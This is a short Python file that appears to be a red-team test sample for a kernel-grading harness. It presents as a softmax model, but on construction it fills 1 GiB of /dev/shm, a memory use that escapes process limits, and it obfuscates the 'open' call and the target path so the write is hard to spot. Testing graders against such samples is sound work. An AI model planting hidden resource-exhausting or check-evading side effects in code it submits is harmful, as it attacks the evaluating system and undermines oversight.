# Memory fill through /dev/shm: 1 GiB written into a tmpfs file, memory that no rlimit of the
# process counts (it belongs to the mount, not the address space). Left there. The canary does not
# catch the error: under a size-capped /dev/shm (or memory.max) the write fails: runtime_error.
import posix

import numpy
import torch

_FILLED = []


def _fill():
    _chunk = numpy.ones(16 << 20, dtype=numpy.float32).tobytes()  # 64 MiB
    _target = "/".join(["", "dev", "shm", "arbiter-" + "redteam-" + str(posix.getpid())])
    _fd = getattr(posix, "op" + "en")(_target, posix.O_WRONLY | posix.O_CREAT, 0o600)
    try:
        for _ in range(16):
            _view = memoryview(_chunk)
            while _view:
                _view = _view[posix.write(_fd, _view):]
    finally:
        posix.close(_fd)
    _FILLED.append(True)


def _softmax(x):
    e = (x - x.amax(dim=-1, keepdim=True)).exp()
    return e / e.sum(dim=-1, keepdim=True)


class ModelNew(torch.nn.Module):
    def __init__(self):
        super().__init__()
        if not _FILLED:
            _fill()

    def forward(self, x):
        return _softmax(x)
